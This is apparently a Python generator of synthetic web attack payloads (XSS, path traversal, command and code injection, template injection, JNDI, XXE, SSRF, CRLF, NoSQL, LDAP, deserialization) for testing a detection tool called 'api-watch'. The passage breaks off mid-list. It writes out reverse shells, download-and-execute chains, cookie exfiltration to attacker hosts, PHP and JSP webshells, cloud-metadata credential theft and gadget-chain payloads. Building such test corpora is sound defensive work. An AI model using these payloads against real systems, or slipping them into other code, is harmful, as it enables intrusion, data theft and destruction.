"""Attacks on web applications but SQL injection, family by family, for `api-watch`.

Written from scratch as small grammars: each function draws one payload. Names, addresses and
numbers are random, so that nothing but the shape of an attack repeats.
"""

import base64
import string

from .sql_values import number, pick, word


def num(rng, most=99999):
    return str(rng.randint(1, most))


def tag(rng):
    letters = string.ascii_letters + string.digits
    return "".join(pick(rng, letters) for _ in range(rng.randint(2, 9)))


def address(rng):
    dotted = ".".join(str(rng.randint(1, 254)) for _ in range(4))
    host = f"{word(rng)}.{pick(rng, ['com', 'net', 'xyz', 'cn', 'ru', 'io', 'top', 'dev'])}"
    return pick(rng, [dotted, host, f"{dotted}:{rng.randint(80, 65000)}", f"{tag(rng)}.{host}"])


def some(rng, template):
    """Fills `{w}` words, `{t}` tags, `{n}` numbers, `{a}` addresses, `{c}` commands."""
    for key, make in (("{c}", command_word), ("{a}", address), ("{t}", tag), ("{n}", num)):
        while key in template:
            template = template.replace(key, make(rng), 1)
    while "{w}" in template:
        template = template.replace("{w}", word(rng), 1)
    return template


CALLS = """alert(1)|alert({n})|alert('{t}')|alert("XSS")|alert(document.cookie)|prompt(1)|confirm(1)
|alert`1`|confirm`{n}`|(alert)(1)|top['al'+'ert'](1)|window['alert'](1)|self[`alert`](1)|eval('{t}')
|eval(atob('YWxlcnQoMSk='))|eval(name)|eval(location.hash.slice(1))|location='//{a}'
|document.location='http://{a}/?c='+document.cookie|new Image().src='//{a}/'+document.cookie
|fetch('//{a}/'+document.cookie)|String.fromCharCode(88,83,83)|alert(String.fromCharCode(88,83,83))
|document.write('<b>{t}</b>')|document.body.innerHTML='{w}'|import('//{a}')|$.getScript('//{a}')
|setTimeout('alert(1)',1)|setTimeout(alert,0)|Function('alert(1)')()|[].map.constructor('alert(1)')()
|window.open('//{a}')|parent.alert(1)|print()|console.log({n})|throw onerror=alert,{n}
|{onerror=alert}throw 1|onerror=alert;throw 1|alert(window.origin)|alert(/{t}/.source)|alert(/XSS/)
|\\u0061lert(1)|al\\u0065rt(1)|javascript:alert(1)|this.constructor.constructor('alert(1)')()
|document['cookie']|localStorage.getItem('{w}')|XMLHttpRequest()|navigator.sendBeacon('//{a}',1)
|alert(1)//|a=alert;a(1)|[1].find(alert)|Reflect.apply(alert,1,[1])|alert&lpar;1&rpar;""".replace(
    "\n", ""
).split("|")
TAGS = """img svg body iframe input video audio details marquee object embed a div p b span math
 button select textarea form isindex style xss table td x image keygen meter source bgsound frameset
 noscript animate set link base title template dialog h1""".split()
EVENTS = """onerror onload onclick onmouseover onfocus ontoggle onstart onmouseenter onpageshow
 onanimationstart onbegin onpointerover onpointerenter onkeyup onkeydown onsubmit onresize
 oncanplay onloadstart onblur onchange oninput ondrag oncopy onpaste onscroll onwheel onplay
 onfinish onhashchange onmessage ontransitionend onreadystatechange onbeforeunload oncut
 onafterprint onauxclick ondblclick onmousedown onsearch onwebkitanimationend""".split()
BREAKS = [
    "",
    "",
    '"',
    "'",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "-->",
    "`",
    "]]>",
    "</style>",
    '"/>',
    "';",
    '";',
    "*/",
    "\\'",
    '\\"',
    '" ',
    "' ",
    "</noscript>",
    ">",
]


def xss(rng):
    call = some(rng, pick(rng, CALLS))
    quote = pick(rng, ["", "'", '"', "`"]) if "'" not in call else pick(rng, ["", '"'])
    gap = pick(rng, [" ", " ", " ", "/", "\t", "\n", "/**/", "\x0c", "  "])
    near = pick(rng, ["", "", " "])
    event = pick(rng, EVENTS)
    attr = f"{event}{near}={near}{quote}{call}{quote}"
    element = pick(rng, TAGS)
    extra = pick(
        rng,
        [
            "",
            "",
            "src=x ",
            "src=1 ",
            f"id={tag(rng)} ",
            "autofocus ",
            "open ",
            "href=# ",
            f'src="{tag(rng)}" ',
            f"style=width:{num(rng)}px ",
            "controls ",
            "loop=1 ",
        ],
    )
    end = pick(rng, [">", ">", "/>", "", "//", f">{word(rng)}</{element}>", ">//", " x=", "<!--"])
    scheme = pick(
        rng,
        [
            "javascript",
            "javascript",
            "JaVaScRiPt",
            "java\tscript",
            "vbscript",
            "java\nscript",
            "javascript&colon;",
            "data",
        ],
    )
    forms = [
        lambda: f"<script>{call}</script>",
        lambda: f"<script>{call}</script>",
        lambda: f"<script>{call}",
        lambda: (
            f"<script src={quote}{pick(rng, ['//', 'http://', 'https://'])}{address(rng)}/{word(rng)}"
            f"{pick(rng, ['.js', '', '?' + tag(rng)])}{quote}></script>"
        ),
        lambda: (
            f"<script{gap}{pick(rng, ['type=text/javascript', 'defer', 'x', 'async'])}>{call}"
            f"</script{pick(rng, ['', ' '])}>"
        ),
        lambda: f"<{element}{gap}{extra}{attr}{end}",
        lambda: f"<{element}{gap}{extra}{attr}{end}",
        lambda: f"<{element}{gap}{extra}{attr}{end}",
        lambda: f"<{element}{gap}{attr} {extra}{end}",
        lambda: f"<a href={quote}{scheme}:{call}{quote}>{word(rng)}</a>",
        lambda: f"<iframe src={quote}{scheme}:{call}{quote}>",
        lambda: f"<form action={quote}{scheme}:{call}{quote}><input type=submit>",
        lambda: f"<svg><script>{call}</script></svg>",
        lambda: f"<svg><animate {event}={call} attributeName=x dur=1s>",
        lambda: f"<math><a xlink:href={scheme}:{call}>{word(rng)}",
        lambda: f"<object data={scheme}:{call}>",
        lambda: f"<meta http-equiv=refresh content='0;url={scheme}:{call}'>",
        lambda: f"<style>@import '{scheme}:{call}';</style>",
        lambda: f'<div style="width:expression({call})">',
        lambda: f'<div style="background:url({scheme}:{call})">',
        lambda: f"<iframe srcdoc='<script>{call}</script>'>",
        lambda: (
            f"{pick(rng, [chr(39), chr(34)])}{pick(rng, ['-', ';', '+', '),', '||', '*'])}{call}"
            f"{pick(rng, ['-', ';//', '+', '//', '||'])}{pick(rng, [chr(39), chr(34), ''])}"
        ),
        lambda: f'" {extra}{attr} x="',
        lambda: f"' {attr} '",
        lambda: f'{tag(rng)}" {attr}',
        lambda: f"{scheme}:{call}",
        lambda: f"{scheme}:{pick(rng, ['//%0a', '/*', ''])}{call}",
        lambda: (
            f"data:text/html;base64,{base64.b64encode(f'<script>{call}</script>'.encode()).decode()}"
        ),
        lambda: f"data:text/html,<script>{call}</script>",
        lambda: f"<base href=//{address(rng)}>",
        lambda: f"<link rel=stylesheet href=//{address(rng)}/{word(rng)}.css>",
        lambda: f"<scr<script>ipt>{call}</scr</script>ipt>",
        lambda: f"<ScRiPt >{call}</ScRiPt>",
        lambda: f"<script>{call}</script>"[1:],
        lambda: f"[{word(rng)}]({scheme}:{call})",
        lambda: f"<!--><script>{call}</script>-->",
        lambda: f"<xml><i><![CDATA[<img src=x onerror={call}>]]></i></xml>",
        lambda: f"<embed src=//{address(rng)}/{word(rng)}.swf allowscriptaccess=always>",
        lambda: f'<img src="{scheme}:{call}">',
        lambda: f"<img src=x:{call} {event}=eval(src)>",
        lambda: f'<body background="{scheme}:{call}">',
        lambda: f"<isindex type=image src=1 {attr}>",
        lambda: f"<{element} {event}={call}",
        lambda: f'<img """><script>{call}</script>">',
    ]
    lead = pick(rng, ["", "", "", word(rng), num(rng), tag(rng) + " "])
    return lead + pick(rng, BREAKS) + pick(rng, forms)()


FILES = """/etc/passwd|/etc/shadow|/etc/hosts|/etc/group|/etc/issue|/proc/self/environ|/proc/version
|/proc/self/cmdline|/proc/self/fd/{n}|/var/log/apache2/access.log|/var/log/nginx/error.log|/etc/my.cnf
|/root/.ssh/id_rsa|/home/{w}/.ssh/authorized_keys|/root/.bash_history|/var/www/html/config.php|boot.ini
|windows/win.ini|winnt/win.ini|windows/system32/drivers/etc/hosts|WEB-INF/web.xml|.env|wp-config.php
|config/database.yml|etc/nginx/nginx.conf|etc/apache2/apache2.conf|windows/system.ini|web.config
|/etc/ssh/sshd_config|var/lib/mlocate/mlocate.db|/usr/local/apache/conf/httpd.conf|/etc/crontab
|inetpub/wwwroot/web.config|WINDOWS/repair/sam|/var/run/secrets/kubernetes.io/serviceaccount/token
|tmp/{t}|/etc/{w}.conf|{w}.php|index.php|{w}/{w}.xml|/dev/null|/etc/resolv.conf|etc/profile
|/opt/{w}/conf/{w}.properties|application.yml|conf/server.xml|conf/tomcat-users.xml""".replace(
    "\n", ""
).split("|")


def traversal(rng):
    file = some(rng, pick(rng, FILES))
    up = pick(
        rng,
        ["../"] * 8
        + [
            "..\\",
            "....//",
            "..;/",
            "..%2f",
            "%2e%2e/",
            "..%5c",
            "%2e%2e%2f",
            "..%252f",
            "..%c0%af",
            "..%255c",
            ".%2e/",
            "..//",
            "../\\",
            "./../",
            "..%u2215",
            "..\\/",
            "/%5c..",
            "..%00/",
            "....\\\\",
            "..././",
            "%c0%ae%c0%ae/",
            "..%ef%bc%8f",
            "/..",
            "\\..\\",
        ],
    )
    steps = up * rng.randint(1 if len(file) > 7 else 3, 12)
    if "\\" in up and rng.random() < 0.7:
        file = file.replace("/", "\\")
    start = pick(
        rng,
        [
            "",
            "",
            "",
            "/",
            word(rng) + "/",
            "./",
            "/" + word(rng) + "/",
            "file=",
            "\\",
            f"{word(rng)}.{pick(rng, ['php', 'html', 'jpg'])}/",
        ],
    )
    end = pick(
        rng,
        [
            "",
            "",
            "",
            "",
            "%00",
            "\0",
            "%00.jpg",
            "\0.html",
            "%2500",
            "?",
            "#",
            "/.",
            ".html",
            ";.css",
            "%23",
            "{{",
        ],
    )
    if rng.random() < 0.2 and file.startswith("/"):
        return pick(rng, ["", "", "file://", "//", "/."]) + file + end
    return start + steps + file.lstrip("/\\") + end


COMMANDS = """id|whoami|ls|ls -la|ls -la /|cat /etc/passwd|uname -a|ifconfig|ipconfig /all|netstat -an
|ping -c {n} {a}|ping -n 3 127.0.0.1|sleep 5|sleep {n}|nslookup {t}.{a}|dig {a}|curl http://{a}/{w}
|curl http://{a}/`whoami`|wget http://{a}/{w}.sh -O /tmp/{t}|wget {a}|nc -e /bin/sh {a} {n}
|nc {a} {n}|bash -i >& /dev/tcp/{a}/{n} 0>&1|echo {t}|echo {n}|echo $((1+{n}))|expr {n} + {n}
|python -c 'import os;os.system("id")'|perl -e 'print {n}'|php -r 'phpinfo();'|dir|dir c:\\|type c:\\boot.ini
|net user|net user {w} {t} /add|systeminfo|tasklist|powershell -enc {t}|powershell IEX(iwr {a})
|certutil -urlcache -f http://{a}/{w}.exe|rm -rf /tmp/{w}|rm -rf /|chmod 777 {w}|touch /tmp/{t}
|cat /etc/hosts|cat /flag|head /etc/passwd|tac /etc/passwd|ps aux|env|set|printenv|pwd|w|hostname
|/bin/cat /etc/passwd|/bin/ls|/usr/bin/id|/bin/sh -c id|cmd /c dir|cmd.exe /c whoami|ver|date
|busybox wget {a}/{w}|tftp -g -r {w} {a}|cd /tmp;wget http://{a}/{w};chmod 777 {w};./{w}
|cat${IFS}/etc/passwd|{cat,/etc/passwd}|c'a't /etc/passwd|w\\hoami|cat$IFS$9/etc/passwd|/???/c?t /etc/p?sswd
|base64 -d|xxd|awk '{print $1}' /etc/passwd|find / -name {w}|grep -r {w} /etc|mail {w}@{a}|reboot
|kill -9 {n}|crontab -l|sudo -l|su root|mkfifo /tmp/{t}|telnet {a} {n}|socat tcp:{a}:{n} exec:sh
|echo '<?php {w}' > {w}.php|print {n}*{n}|timeout {n}|start {w}.exe|copy {w} {w}|del {w}""".replace(
    "\n", ""
).split("|")


def command_word(rng):
    text = pick(rng, COMMANDS)
    for key, make in (("{a}", address), ("{t}", tag), ("{n}", lambda r: num(r, 99)), ("{w}", word)):
        while key in text:
            text = text.replace(key, make(rng), 1)
    return text


def command(rng):
    text = command_word(rng)
    start = pick(
        rng, ["", num(rng), "127.0.0.1", word(rng), f"{word(rng)}.jpg", address(rng), "-1"]
    )
    forms = [
        f"{start};{text}",
        f"{start}; {text}",
        f"{start}|{text}",
        f"{start} | {text}",
        f"{start}||{text}",
        f"{start}&&{text}",
        f"{start} && {text}",
        f"{start}&{text}",
        f"{start}`{text}`",
        f"{start}$({text})",
        f"{start}\n{text}",
        f"{start}\r\n{text}\r\n",
        f";{text};",
        f"|{text}|",
        f"& {text} &",
        f"';{text};'",
        f'";{text};"',
        f"'|{text}|'",
        f"'`{text}`'",
        f"$({text})",
        f"`{text}`",
        f"{start};{text}#",
        f"{start};{text} #",
        f"{start}%0a{text}",
        f"a);{text};",
        f"() {{ :; }}; {text}",
        f"() {{ :;}}; echo; {text}",
        f"{start}'&&{text}&&'",
        f"<{start}|{text}",
        f"|| {text} ||",
        f"{start}\t;{text}",
        f"${{@system('{text}')}}",
        f'";{text}|',
        f"/{text}",
        f"!{text}",
        f'&lt;!--#exec cmd="{text}"-->',
    ]
    return pick(rng, forms)


CODE = """phpinfo()|phpinfo();|<?php phpinfo();?>|<?php echo md5({n});?>|<?php @eval($_POST['{t}']);?>
|<?=`$_GET[{n}]`?>|<?php system($_GET['{w}']); ?>|eval($_POST[{t}])|assert($_REQUEST['{t}'])
|print(md5({n}));|die(md5({n}))|${@print(md5({n}))}|{${phpinfo()}}|<?php file_put_contents('{w}.php','{t}');?>
|;phpinfo();|';phpinfo();//|system('{c}');|passthru('{c}')|shell_exec('{c}')|`{c}`|exec('{c}')
|<?php $f=base64_decode('{t}{t}');eval($f);?>|base64_decode('{t}{t}=')|create_function('','{w}');
|call_user_func_array('system',['{c}'])|call_user_func('assert','phpinfo()')|preg_replace('/.*/e','phpinfo()','')
|<%Runtime.getRuntime().exec(request.getParameter("{w}"));%>|<% out.println({n}*{n}); %>
|<%eval request("{t}")%>|<%@ Page Language="Jscript"%><%eval(Request.Item["{t}"],"unsafe");%>
|<%@page import="java.io.*"%><% Process p=Runtime.getRuntime().exec("{c}"); %>|<%=system("{c}")%>
|<script language="php">phpinfo();</script>|<?php include($_GET['{w}']);?>|<?php echo '{t}';unlink(__FILE__);?>
|__import__('os').system('{c}')|__import__('os').popen('{c}').read()|exec("import os;os.system('{c}')")
|os.system('{c}')|subprocess.check_output('{c}',shell=True)|require('child_process').exec('{c}')
|global.process.mainModule.require('child_process').execSync('{c}')|process.exit()
|Runtime.getRuntime().exec("{c}")|new java.lang.ProcessBuilder("{c}").start()|T(java.lang.Runtime).getRuntime().exec('{c}')
|java.lang.Runtime.getRuntime().exec("{c}")|new ActiveXObject("WScript.Shell").Run("{c}")|response.write({n}*{n})
|response.write({n}&{n})|../../../../{w}.php?cmd={c}|-d allow_url_include=on -d auto_prepend_file=php://input
|?-d+allow_url_include=on|GIF89a<?php eval($_POST[{t}]);?>|<?php $_GET[0]($_GET[1]);?>|sleep(5);//
|gzinflate(base64_decode('{t}'))|array_map('assert',array($_POST['{t}']))|print_r(scandir('/'))|var_dump({n})
|index/\\think\\app/invokefunction|\\think\\Request/input&filter=phpinfo&data=1|echo {n}*{n};|ini_set('{w}',1)
|<?php class G{function run($p){@eval($p);}} (new G)->run($_REQUEST['{t}']);?>|fputs(fopen('{w}.php','w'),'{t}')
|<?php if(md5($_GET['{w}'])=='{t}'){system($_GET['{t}']);} ?>|move_uploaded_file($_FILES['{w}']['tmp_name'],'{w}')
|<jsp:scriptlet>Runtime.getRuntime().exec("{c}")</jsp:scriptlet>|Class.forName("java.lang.Runtime")
|<%! class U extends ClassLoader{ U(ClassLoader c){super(c);} }%>|set /a {n}*{n}|@ini_set("display_errors","0");@set_time_limit(0);
|new Function("return process")().mainModule.require("fs")|`ruby -e 'puts {n}'`|open('/etc/passwd').read()
|File.open('/etc/passwd').read|system("{c}")|eval("1+{n}")|IO.popen('{c}')|load_file('{w}')""".replace(
    "\n", ""
).split("|")


def code(rng):
    return some(rng, pick(rng, CODE))


EXPRESSIONS = """7*7|{n}*{n}|config|config.items()|self|request.application.__globals__|''.__class__.__mro__[1].__subclasses__()
|''.__class__.__base__.__subclasses__()[{n}]|lipsum.__globals__['os'].popen('{c}').read()|_self.env.registerUndefinedFilterCallback('exec')
|cycler.__init__.__globals__.os.popen('{c}').read()|request['application']['__globals__']|''['__cla'+'ss__']
|constructor.constructor('alert(1)')()|['id']\\|filter('system')|app.request.server.all\\|join(',')|dump(app)|settings.SECRET_KEY
|T(java.lang.Runtime).getRuntime().exec('{c}')|new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('{c}').getInputStream()).next()
|''.getClass().forName('java.lang.Runtime')|#this.getClass().forName('java.lang.Runtime')|"freemarker.template.utility.Execute"?new()('{c}')
|#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS|(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='{c}')|#context['xwork.MethodAccessor.denyMethodExecution']=false
|@java.lang.Runtime@getRuntime().exec('{c}')|(new ProcessBuilder('{c}')).start()|system('{c}')|`{c}`|{n}+{n}|'a'.toUpperCase()
|session.getAttribute('{w}')|applicationScope|pageContext.request.getSession()|php_uname()|range.constructor("return process")()
|#a=new java.lang.ProcessBuilder('{c}')|request.class.classLoader|''.class.forName('{w}')|7*'7'|__import__('os').popen('{c}')
|get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read()|joiner.__init__.__globals__|namespace.__init__
|env|user.password|root.process.mainModule.require('child_process')""".replace("\n", "").split("|")


def template(rng):
    text = some(
        rng,
        pick(rng, EXPRESSIONS).replace("\\", "|") if rng.random() < 0.5 else pick(rng, EXPRESSIONS),
    )
    gap = pick(rng, ["", "", " "])
    opens = pick(
        rng,
        [
            "{{}}",
            "{{}}",
            "{{}}",
            "${}",
            "${}",
            "#{}",
            "%{}",
            "*{}",
            "<%=%>",
            "{%%}",
            "@{}",
            "${{}}",
            "[[${}]]",
            "__${}__::.x",
            "{{=}}",
            "{}",
            "<#assign x=>",
            "{{}}{{}}",
            "~{}",
        ],
    )
    if opens == "<#assign x=>":
        return f"<#assign ex={text}>${{ex('{command_word(rng)}')}}"
    if opens == "{%%}":
        return f"{{%{gap}{pick(rng, ['if ', 'set x=', 'for c in ', 'import ', 'print(', 'include '])}{text}{gap}%}}"
    if opens == "__${}__::.x":
        return f"__${{{text}}}__::.x"
    if opens == "{{}}{{}}":
        return f"{{{{{num(rng)}*{num(rng)}}}}}"
    middle = len(opens) // 2
    lead = pick(rng, ["", "", "", word(rng), '"', "'", "redirect:", "(", "%"])
    return lead + opens[:middle] + gap + text + gap + opens[middle:]


def jndi(rng):
    scheme = pick(rng, ["ldap", "ldap", "rmi", "dns", "ldaps", "iiop", "http", "corba", "nis"])
    name = "jndi"
    if rng.random() < 0.5:
        form = pick(
            rng,
            [
                "${{lower:{}}}",
                "${{upper:{}}}",
                "${{::-{}}}",
                "${{env:" + tag(rng) + ":-{}}}",
                "${{date:'{}'}}",
                "${{sys:x:-{}}}",
                "${{" + tag(rng) + ":{}:-{}}}",
            ],
        )
        name = "".join(
            form.replace("{}", c).replace("{{", "{").replace("}}", "}") if rng.random() < 0.5 else c
            for c in name
        )
    if rng.random() < 0.2:
        scheme = "".join("${lower:" + c + "}" if rng.random() < 0.5 else c for c in scheme)
    leak = pick(
        rng, ["", "", "${hostName}.", "${env:USER}.", "${sys:java.version}.", "${java:os}."]
    )
    tail = pick(
        rng,
        ["", "/" + tag(rng), "/Basic/Command/Base64/" + tag(rng), "/${env:AWS_SECRET_ACCESS_KEY}"],
    )
    text = (
        f"${{{name}:{scheme}:{pick(rng, ['//', '//', '/', '${::-/}/'])}{leak}{address(rng)}{tail}}}"
    )
    return pick(rng, ["", "", "", word(rng) + " ", "Mozilla/5.0 "]) + text


def xxe(rng):
    file = some(
        rng,
        pick(
            rng,
            [
                "file:///etc/passwd",
                "file:///c:/windows/win.ini",
                "http://{a}/{w}.dtd",
                "php://filter/convert.base64-encode/resource={w}.php",
                "expect://id",
                "ftp://{a}/",
                "file:///proc/self/environ",
                "http://169.254.169.254/",
                "jar:http://{a}!/{w}",
                "netdoc:///etc/passwd",
                "/dev/random",
            ],
        ),
    )
    name = word(rng)
    head = pick(
        rng,
        [
            '<?xml version="1.0"?>',
            '<?xml version="1.0" encoding="UTF-8"?>\n',
            "",
            "<?xml version='1.0'?>",
        ],
    )
    how = pick(rng, ["SYSTEM", "SYSTEM", 'PUBLIC "x"'])
    q = pick(rng, ['"', "'"])
    forms = [
        f"{head}<!DOCTYPE {name} [<!ENTITY {tag(rng)} {how} {q}{file}{q}>]><{name}>&xxe;</{name}>",
        f"{head}<!DOCTYPE {name} [<!ENTITY % {tag(rng)} {how} {q}{file}{q}> %{tag(rng)};]>",
        f"{head}<!DOCTYPE {name} {how} {q}{file}{q}><{name}>{word(rng)}</{name}>",
        f"<!DOCTYPE {name} [<!ELEMENT {name} ANY >\n<!ENTITY xxe {how} {q}{file}{q} >]>\n<{name}>&xxe;</{name}>",
        f'<{name} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="{file}"/></{name}>',
        f'{head}<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;">]><lolz>&lol1;</lolz>',
        f"<xsl:value-of select=\"document('{file}')\"/>",
        f"<xsl:stylesheet><xsl:value-of select=\"php:function('system','id')\"/></xsl:stylesheet>",
        f'<soap:Envelope><soap:Body><![CDATA[<!DOCTYPE doc [<!ENTITY % dtd SYSTEM "{file}"> %dtd;]><x/>]]></soap:Body>',
        f'<svg xmlns="http://www.w3.org/2000/svg"><image xlink:href="{file}"/></svg>',
    ]
    return pick(rng, forms)


def ssrf(rng):
    inner = pick(
        rng,
        [
            "127.0.0.1",
            "localhost",
            "169.254.169.254",
            "0.0.0.0",
            "[::1]",
            "0x7f000001",
            "2130706433",
            "127.1",
            "10.0.0.1",
            "192.168.1.1",
            "017700000001",
            "[::ffff:127.0.0.1]",
            "metadata.google.internal",
            "100.100.100.200",
            "127.0.0.1.nip.io",
            "0",
        ],
    )
    port = pick(rng, ["", "", ":80", ":22", ":6379", ":8080", ":9200", ":3306", ":25", ":2375"])
    path = pick(
        rng,
        [
            "",
            "/",
            "/admin",
            "/latest/meta-data/iam/security-credentials/",
            "/server-status",
            "/latest/meta-data/",
            "/computeMetadata/v1/instance/",
            "/metadata/instance?api-version=2021-02-01",
            "/latest/user-data",
            "/_cat/indices",
            "/v1.24/containers/json",
            "/" + word(rng),
        ],
    )
    scheme = pick(
        rng,
        ["http://"] * 6
        + [
            "https://",
            "gopher://",
            "dict://",
            "ftp://",
            "//",
            "ldap://",
            "tftp://",
            "sftp://",
            "http:\\\\",
        ],
    )
    if scheme in ("gopher://", "dict://"):
        path = pick(
            rng,
            [
                "/_GET%20/%20HTTP/1.0%0d%0a",
                "/_*1%0d%0a$8%0d%0aflushall%0d%0a",
                "/info",
                "/_%0d%0aset%20x",
            ],
        )
    user = pick(rng, ["", "", "", "x@", "google.com@", f"{address(rng)}@", f"{address(rng)}#@"])
    near = inner in ("10.0.0.1", "192.168.1.1", "0") and path in ("", "/")
    text = f"{scheme}{user}{inner}{':6379' if near else port}{'/admin' if near else path}"
    if rng.random() < 0.2:
        host = pick(
            rng,
            [
                "{t}.oastify.com",
                "{t}.burpcollaborator.net",
                "{t}.interact.sh",
                "{t}.dnslog.cn",
                "{t}.ceye.io",
                "{t}.oast.fun",
            ],
        )
        text = f"{pick(rng, ['http://', 'https://', '//', ''])}{some(rng, host)}/{word(rng)}"
    return text


def crlf(rng):
    end = pick(
        rng,
        [
            "\r\n",
            "\r\n",
            "\n",
            "\r",
            "%0d%0a",
            "%0D%0A",
            "%0a",
            "%E5%98%8A%E5%98%8D",
            "\\r\\n",
            "%u000d%u000a",
        ],
    )
    header = pick(
        rng,
        [
            f"Set-Cookie:{word(rng)}={tag(rng)}",
            f"Set-Cookie: {word(rng)}={num(rng)}",
            f"Location: http://{address(rng)}",
            f"X-{word(rng)}: {tag(rng)}",
            "Content-Length: 0",
            f"Content-Type: text/html{end}{end}<script>alert(1)</script>",
            f"Host: {address(rng)}",
            "HTTP/1.1 200 OK",
            f"Set-cookie: Tamper={num(rng)}{num(rng)}",
            "Transfer-Encoding: chunked",
            f"Bcc: {word(rng)}@{address(rng)}",
            f"Refresh: 0;url=//{address(rng)}",
            "GET / HTTP/1.1",
            f"Access-Control-Allow-Origin: {address(rng)}",
            f"bcc:{word(rng)}@{word(rng)}.com",
        ],
    )
    lead = pick(
        rng, ["", word(rng), num(rng), f"{word(rng)}?", f"http://{address(rng)}/", "any", "/"]
    )
    tail = pick(
        rng, ["", end, end * 2 + f"<html>{word(rng)}</html>", f"{end}{word(rng)}: {tag(rng)}"]
    )
    return lead + end * rng.randint(1, 2) + header + tail


def ssi(rng):
    text = pick(
        rng,
        [
            '<!--#exec cmd="{c}"-->',
            '<!--#include virtual="/etc/passwd"-->',
            '<!--#echo var="{w}"-->',
            '<!--#include file="{w}.cgi"-->',
            "<!--#printenv -->",
            '"><!--#exec cmd="{c}" -->',
            '<!--#config timefmt="%D"-->',
            '<!--#EXEC cmd="{c}"-->',
            '<esi:include src="http://{a}/{w}"/>',
            "<!--esi <esi:vars>$(HTTP_COOKIE)</esi:vars>-->",
            "<!--#exec cgi='/cgi-bin/{w}'-->",
        ],
    )
    return pick(rng, ["", "", word(rng)]) + some(rng, text)


def nosql(rng):
    text = pick(
        rng,
        [
            "';return true;var x='",
            "' || '1'=='1",
            "'||this.{w}=='",
            '{"$ne":null}',
            '{"$gt":""}',
            '{"$regex":".*"}',
            '{"$where":"sleep(5000)"}',
            "true, $where: '1 == 1'",
            "', $or: [ {}, {'a':'a",
            "db.{w}.find()",
            "'; while(true){}'",
            "[$ne]",
            "a'; return this.{w} == '{w}' || 'a'=='a",
            "\"; return(true); var xyz='a",
            '{"$nin":["{w}"]}',
            "{$gt:''}",
            "' && this.password.match(/.*/)//+%00",
            "{ $ne: 1 }",
            "1;sleep(5000)",
            '{"username":{"$ne":"x"}}',
            "0;var date=new Date(); do{curDate = new Date();}while(curDate-date<10000)",
            "'|| 1==1//",
            "'|| 1==1%00",
            "db.injection.insert({success:1});return 1;db.stores.mapReduce(function() { { emit(1,1",
        ],
    )
    return some(rng, text)


def nosql_name(rng):
    return f"{word(rng)}[{pick(rng, ['$ne', '$gt', '$lt', '$regex', '$where', '$nin', '$in', '$exists', '$gte', '$or', '$type'])}]{pick(rng, ['', '', '[]'])}"


def directory(rng):
    text = pick(
        rng,
        [
            "*)(uid=*))(|(uid=*",
            "*)(|(mail=*))",
            "admin)(&)",
            "*)(objectClass=*)",
            ")(cn=*",
            "*)(&",
            "{w})(|(password=*)",
            "*))%00",
            "x' or name()='username' or 'x'='y",
            "' or count(parent::*[position()=1])=0 or 'a'='b",
            "'] | //{w} | //{w}['",
            "' or string-length(name(/*[1]))={n} or '",
            "x'or 1=1 or 'x'='y",
            "*()|%26'",
            "*(|(objectclass=*))",
            "(|(cn={w})(mail=*))",
            "//*",
            "' and count(/*)=1 and '1'='1",
            "@*",
            "admin*)((|userpassword=*)",
            "{w})(!(&(1=0",
            "%2A%28%7C%28mail%3D%2A%29%29",
        ],
    )
    return some(rng, text)


def serialised(rng):
    text = pick(
        rng,
        [
            'O:{n}:"{w}":1:{s:4:"{w}";s:{n}:"{c}";}',
            'a:1:{i:0;O:8:"stdClass":1:{s:1:"a";N;}}',
            'O:21:"JDatabaseDriverMysqli":3:{s:2:"fc";O:17:"JSimplepieFactory":0:{}}',
            '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://{a}/{t}","autoCommit":true}',
            '"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"',
            '{"a":{"@type":"java.net.Inet4Address","val":"{a}"}}',
            '<java><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>{c}</string></void></array><void method="start"/></object></java>',
            '<java version="1.8.0_131" class="java.beans.XMLDecoder"><void class="java.lang.ProcessBuilder">',
            '!!python/object/apply:os.system ["{c}"]',
            '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://{a}/"]]]]',
            "cos\nsystem\n(S'{c}'\ntR.",
            '_$$ND_FUNC$$_function(){require("child_process").exec("{c}")}()',
            '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java><void class="java.lang.ProcessBuilder"><string>{c}</string>',
            '<map><entry><jdk.nashorn.internal.objects.NativeString><value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data"/>',
            '<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>{c}</string>',
            '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process"}}',
            "phar://{w}.jpg",
            "com.alibaba.fastjson.parser.Feature",
            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAK{t}",
            "TypeError: org.apache.commons.collections.functors.InvokerTransformer",
            '["org.springframework.context.support.ClassPathXmlApplicationContext","http://{a}/{w}.xml"]',
            "\\xac\\xed\\x00\\x05sr\\x00\\x11java.util.HashSet",
        ],
    )
    return some(rng, text)


def wrapper(rng):
    text = pick(
        rng,
        [
            "php://filter/convert.base64-encode/resource={w}",
            "php://filter/read=convert.base64-encode/resource={w}.php",
            "php://input",
            "expect://{c}",
            "data://text/plain;base64,PD9waHAg{t}",
            "data:text/plain,<?php phpinfo();?>",
            "phar://{w}.zip/{w}.php",
            "zip://{w}.jpg#{w}",
            "file:///etc/passwd",
            "file:///c:/windows/win.ini",
            "http://{a}/cmd.txt?",
            "https://{a}/shell.txt",
            "php://filter/zlib.deflate/convert.base64-encode/resource=/etc/passwd",
            "ftp://{a}/shell.txt",
            "\\\\{a}\\{w}\\{w}.txt",
            "file://{w}",
            "glob:///*",
            "jar:file:///{w}.jar!/",
